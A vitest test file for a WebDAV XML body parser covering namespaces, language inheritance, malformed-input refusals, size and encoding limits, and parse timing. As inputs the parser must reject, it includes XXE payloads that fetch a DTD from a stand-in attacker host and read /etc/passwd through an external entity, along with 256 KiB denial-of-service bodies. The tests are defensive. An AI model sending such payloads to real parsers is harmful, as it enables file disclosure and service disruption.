import { describe, expect, it } from "vitest";
import { parseXmlBody, requireXmlMediaType, XML_LIMITS } from "../../../src/webdav/xml.ts";
import { elementsOf, textOf } from "../../../src/webdav/xml-element.ts";
import { startProcessorTime } from "../../support/processor-time.ts";
import { areMutants } from "../../support/timed.ts";
import { codeOf, field, toBytes } from "./bytes.ts";

const LARGE = { maxBytes: 256 * 1024, maxElements: 5000 };

function parse(text: string) {
  return parseXmlBody(toBytes(text));
}

function refusalOf(text: string): string | undefined {
  return codeOf(() => parse(text));
}

describe("the XML of a body", () => {
  it("has namespaces by prefix, by default, and none", () => {
    const root = parse('<a xmlns="urn:1" xmlns:p="urn:2" k="1" p:k="2"><p:b/><b xmlns=""/><c/></a>');
    expect(root).toMatchObject({ namespace: "urn:1", name: "a", prefix: "", language: "" });
    expect(root.attributes).toEqual([
      { prefix: "", namespace: "", name: "k", value: "1" },
      { prefix: "p", namespace: "urn:2", name: "k", value: "2" },
    ]);
    expect(elementsOf(root).map(({ namespace, name }) => `{${namespace}}${name}`)).toEqual([
      "{urn:2}b",
      "{}b",
      "{urn:1}c",
    ]);
  });

  it("has the language of the elements around it, unless it has its own", () => {
    const root = parse('<a xml:lang="en"><b/><c xml:lang="de"/><d xml:lang=""/></a>');
    expect(elementsOf(root).map(({ language }) => language)).toEqual(["en", "de", ""]);
  });

  it("has texts, references and CDATA, but no comments and no processing instructions", () => {
    const root = parse("<a>1<!-- x --><?x y?>&lt;&#65;&#x42;<b>2</b><![CDATA[<&]]>\r\n3\r4</a>");
    expect(textOf(root)).toBe("1<AB2<&\n3\n4");
  });

  it("may declare a namespace again, and the prefix xml as what it is", () => {
    const root = parse(
      '<p:a xmlns:p="urn:1" xmlns:xml="http://www.w3.org/XML/1998/namespace"><p:a xmlns:p="urn:2"/></p:a>',
    );
    expect(elementsOf(root).map(({ namespace }) => namespace)).toEqual(["urn:2"]);
  });

  it.each([
    ["nothing but blanks", "  "],
    ["text", "propfind"],
    ["JSON", "{}"],
    ["an element without an end", "<a>"],
    ["an end of another element", "<a></b>"],
    ["two roots", "<a/><b/>"],
    ["text after the root", "<a/>x"],
    ["a prefix without a declaration", "<p:a/>"],
    ["an attribute's prefix without a declaration", '<a p:k=""/>'],
    ["a prefix without a namespace", '<a xmlns:p=""/>'],
    ["a declaration of xmlns", '<a xmlns:xmlns="urn:1"/>'],
    ["the namespace of declarations", '<a xmlns:p="http://www.w3.org/2000/xmlns/"/>'],
    ["another namespace for xml", '<a xmlns:xml="urn:1"/>'],
    ["another prefix for the namespace of xml", '<a xmlns:p="http://www.w3.org/XML/1998/namespace"/>'],
    ["the namespace of xml as the default one", '<a xmlns="http://www.w3.org/XML/1998/namespace"/>'],
    ["an element with the prefix xmlns", "<xmlns:a/>"],
    ["a name with two colons", '<p:a:b xmlns:p="urn:1"/>'],
    ["a name that ends in a colon", '<p: xmlns:p="urn:1"/>'],
    ["a name that begins with a colon", "<:a/>"],
    ["a local name that begins with a digit", '<p:1 xmlns:p="urn:1"/>'],
    ["an attribute twice", '<a k="" k=""/>'],
    ["an attribute twice by its namespace", '<a xmlns:p="urn:1" xmlns:q="urn:1" p:k="" q:k=""/>'],
    ["an attribute without quotes", "<a k=1/>"],
    ["a < in an attribute", '<a k="<"/>'],
    ["an unknown entity", "<a>&nbsp;</a>"],
    ["a reference to no character", "<a>&#0;</a>"],
    ["a control character", "<a>\u0001</a>"],
    ["a comment that does not end", "<a><!-- "],
    ["a comment with two hyphens", "<a><!-- -- --></a>"],
    ["CDATA that does not end", "<a><![CDATA["],
    ["a processing instruction that does not end", "<a><?x"],
    ["a tag that does not end", '<a k="'],
  ])("is refused with %s", (_, text) => {
    expect(refusalOf(text)).toBe("xml-malformed");
  });

  it.each([
    "<!DOCTYPE a><a/>",
    '<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd"><a/>',
    '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>',
    '<!-- --><!DOCTYPE a [<!ENTITY % b SYSTEM "file:///etc/passwd"> %b;]><a/>',
    "<!doctype a><a/>",
    "<a><!ENTITY b 'c'></a>",
  ])("is refused with a document type: %s", (text) => {
    expect(refusalOf(text)).toBe("xml-document-type");
  });

  it("may have the text of a document type in CDATA and in comments", () => {
    expect(textOf(parse("<!-- <!DOCTYPE a> --><a><![CDATA[<!DOCTYPE a>]]></a>"))).toBe("<!DOCTYPE a>");
  });

  it("has at most 32 levels and 1,000 elements, or what its limits say", () => {
    const nested = (levels: number) => `${"<a>".repeat(levels - 1)}<b/>${"</a>".repeat(levels - 1)}`;
    expect(refusalOf(nested(32))).toBeUndefined();
    expect(refusalOf(nested(33))).toBe("xml-too-complex");
    const many = (count: number) => `<a>${'<b c=">"/>'.repeat(count - 1)}</a>`;
    expect(refusalOf(many(1000))).toBeUndefined();
    expect(refusalOf(many(1001))).toBe("xml-too-complex");
    expect(codeOf(() => parseXmlBody(toBytes(many(5000)), LARGE))).toBeUndefined();
    expect(codeOf(() => parseXmlBody(toBytes(many(5001)), LARGE))).toBe("xml-too-complex");
    expect(refusalOf("<a>".repeat(20_000))).toBe("xml-too-complex");
  });

  it("has at most 64 KiB", () => {
    const text = (size: number) => `<a>${"x".repeat(size - 7)}</a>`;
    expect(refusalOf(text(XML_LIMITS.maxBytes))).toBeUndefined();
    expect(refusalOf(text(XML_LIMITS.maxBytes + 1))).toBe("body-too-large");
  });
});

describe("the encoding of an XML body", () => {
  const declared = (encoding: string, text = "ü") => `<?xml version="1.0" encoding="${encoding}"?><a>${text}</a>`;
  const utf16 = (text: string, isBigEndian: boolean) => {
    const units = [...`\ufeff${text}`].flatMap((sign) =>
      [...Array(sign.length).keys()].map((at) => sign.charCodeAt(at)),
    );
    return Uint8Array.from(units.flatMap((unit) => (isBigEndian ? [unit >> 8, unit & 255] : [unit & 255, unit >> 8])));
  };

  it.each(["utf-8", "UTF-8"])("may be declared as %s", (encoding) => {
    expect(textOf(parse(declared(encoding)))).toBe("ü");
  });

  it("may begin with a byte order mark", () => {
    expect(textOf(parse(`\ufeff${declared("utf-8")}`))).toBe("ü");
  });

  it.each([true, false])("may be UTF-16 with a byte order mark; big-endian: %s", (isBigEndian) => {
    expect(textOf(parseXmlBody(utf16(declared("UTF-16", "ü😀"), isBigEndian)))).toBe("ü😀");
    expect(textOf(parseXmlBody(utf16("<a>ü</a>", isBigEndian)))).toBe("ü");
  });

  it("is refused if it is another one, or not the declared one", () => {
    const latin1 = Uint8Array.from([...declared("iso-8859-1")].map((sign) => sign.charCodeAt(0)));
    expect(codeOf(() => parseXmlBody(latin1))).toBe("xml-not-unicode");
    expect(refusalOf(declared("iso-8859-1", "u"))).toBe("xml-not-unicode");
    expect(refusalOf(declared("utf-16", "u"))).toBe("xml-not-unicode");
    expect(codeOf(() => parseXmlBody(utf16(declared("utf-8"), true)))).toBe("xml-not-unicode");
    expect(codeOf(() => parseXmlBody(utf16("<a/>", false).slice(0, -1)))).toBe("xml-not-unicode");
    expect(codeOf(() => parseXmlBody(utf16("<a>\ud800</a>", false)))).toBe("xml-not-unicode");
    expect(codeOf(() => parseXmlBody(Uint8Array.of(0x3c, 0x61, 0xff, 0x3e)))).toBe("xml-not-unicode");
  });
});

describe("the media type of an XML body", () => {
  it.each(["application/xml", "text/xml", 'TEXT/XML; charset="utf-8"', ""])("may be %j", (type) => {
    expect(codeOf(() => requireXmlMediaType(field("Content-Type", type)))).toBeUndefined();
  });

  it.each(["application/json", "text/plain", "application/soap+xml", "text/xmlx"])("is refused if it is %s", (type) => {
    expect(codeOf(() => requireXmlMediaType(field("Content-Type", type)))).toBe("xml-media-type");
  });

  it("may be absent", () => {
    expect(codeOf(() => requireXmlMediaType(new Headers()))).toBeUndefined();
  });
});

describe.skipIf(areMutants)("hostile XML of 256 KiB (SECURITY 12)", () => {
  const fill = (text: string, before = "<a>", after = "</a>") =>
    before + text.repeat(Math.floor((LARGE.maxBytes - before.length - after.length) / text.length)) + after;
  const namespace = "n".repeat(100_000);

  it.each([
    ["carriage returns", fill("\r")],
    ["carriage returns between references", fill("\r&#13;")],
    ["comments without an end", fill("<!--", "")],
    ["CDATA without an end", fill("<![CDATA[", "")],
    ["processing instructions without an end", fill("<?a ", "")],
    ["quotes", fill('"', "<a ", "")],
    ["ends", fill("</a>", "")],
    ["references", fill("&amp;")],
    ["references in an attribute", fill("&amp;", '<a b="', '"/>')],
    ["levels", fill("<a>", "")],
    ["attributes", `<a${Array.from({ length: 20_000 }, (_, index) => ` a${index}=""`).join("")}/>`],
    [
      "attributes with a long namespace",
      `<a xmlns:n="${namespace}"${Array.from({ length: 9000 }, (_, index) => ` n:a${index}=""`).join("")}/>`,
    ],
    [
      "declarations, and elements that look for one in vain",
      `<a${Array.from({ length: 7000 }, (_, index) => ` xmlns:p${index}="n"`).join("")}>${'<b xmlns:c="d"/>'.repeat(4900)}</a>`,
    ],
    ["characters outside of the basic plane", fill("😀".repeat(100)).slice(0, 120_000)],
  ])("is read within 100 ms: %s", (_, text) => {
    const times = Array.from({ length: 4 }, () => {
      const elapsed = startProcessorTime();
      codeOf(() => parseXmlBody(toBytes(text), LARGE));
      return elapsed();
    });
    // The first ones compile the code, and a collection of garbage counts for the text that it comes in.
    expect(Math.min(...times)).toBeLessThan(100);
  });
});
